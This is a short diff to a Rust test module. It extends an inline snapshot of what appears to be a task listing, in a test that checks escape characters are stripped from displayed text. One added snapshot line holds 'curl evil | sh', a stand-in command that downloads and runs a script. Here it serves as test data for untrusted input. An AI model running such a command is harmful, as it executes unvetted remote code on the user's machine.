@@ -111,6 +111,15 @@ mod tests {
         assert!(!shown.contains('\u{1b}'), "{shown:?}");
         let (head, tail) = shown.split_once("         | line\n").unwrap();
         insta::assert_snapshot!(head, @r"
+        aaaaa  Dates
+               part of k3f9a
+               | Run this:
+               |
+               | curl evil | sh
+          bbbbb  Zones
+                 waits for 7hx2m
+                 priority 1
+                 touches src/**, docs/**
         ");
         assert!(
             tail.ends_with("         … 2 more lines; `-v` shows them\n"),
